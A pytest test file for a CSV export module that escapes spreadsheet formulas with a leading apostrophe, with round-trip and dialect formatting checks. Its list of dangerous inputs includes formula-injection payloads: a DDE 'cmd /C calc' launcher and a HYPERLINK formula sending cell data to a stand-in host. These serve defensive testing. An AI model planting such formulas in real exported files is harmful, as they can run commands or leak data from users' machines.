"""A text that a spreadsheet would run stays text, and every text comes back as it was."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from zt_planner.media.csv.dialects import Dialect, csv_bytes, is_formula, protected, unprotected

DANGEROUS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "  \t =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\ufeff=1+1",
    "\N{ZERO WIDTH SPACE}=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH PLUS SIGN}1+1",
    "\N{FULLWIDTH HYPHEN-MINUS}1+1",
    "\N{FULLWIDTH COMMERCIAL AT}A1",
    "\N{SMALL EQUALS SIGN}1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"x")',
    '=DDE("cmd";"/C calc";"x")',
    "-",
    "--1",
    "@home",
    "- Aufzählung",
)
HARMLESS = (
    "",
    "MARCH1",
    "SEPT2",
    "1E5",
    "0001",
    "1-2",
    "Müller & Söhne",
    "x=1",
    "a;=1",
    'x,"=1"',
    "'t Hart",
    "''",
    "90’s",
)


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    assert protected(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_text_stays_as_it_is(text: str) -> None:
    assert protected(text) == text
    assert unprotected(text) == text


@pytest.mark.parametrize("text", [*DANGEROUS, *HARMLESS, *(f"'{text}" for text in DANGEROUS), "'''=1", "' =1"])
def test_protection_comes_off_again(text: str) -> None:
    assert unprotected(protected(text)) == text
    assert not is_formula(protected(text))


@given(st.text(st.sampled_from("'=+-@\t\r\n \ufeff\xa0a1\uff1d\u200b") | st.characters(), max_size=8))
def test_protection_comes_off_of_every_text(text: str) -> None:
    assert unprotected(protected(text)) == text
    assert not is_formula(protected(text))


@pytest.mark.parametrize("dialect", Dialect)
@given(texts=st.lists(st.text(st.characters(codec="utf-8"), max_size=9), min_size=1, max_size=4))
def test_every_text_survives_a_file(dialect: Dialect, texts: list[str]) -> None:
    content = csv_bytes(("a",) * len(texts), [texts], dialect).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content, newline=""), delimiter=";" if dialect.words else ","))
    assert [unprotected(cell) for cell in rows[1]] == texts


ROW = ("text; with, marks", Decimal("-1234.50"), 7, True, date(2027, 1, 4), None, "=1")
HEADER = ("a", "b", "c", "d", "e", "f", "g")


def test_rfc_4180_has_points_commas_and_iso_dates() -> None:
    content = csv_bytes(HEADER, [ROW], Dialect.RFC4180)
    assert content == b"a,b,c,d,e,f,g\r\n" + b'"text; with, marks",-1234.50,7,true,2027-01-04,,\'=1\r\n'


def test_german_excel_has_a_mark_semicolons_and_decimal_commas() -> None:
    content = csv_bytes(HEADER, [ROW], Dialect("excel-de"))
    assert content == b"\xef\xbb\xbfa;b;c;d;e;f;g\r\n" + b'"text; with, marks";-1234,50;7;true;04.01.2027;;\'=1\r\n'


def test_a_large_number_is_written_without_an_exponent() -> None:
    assert b"\r\n100000000000\r\n" in csv_bytes(("a",), [(Decimal("1E+11"),)], Dialect.RFC4180)
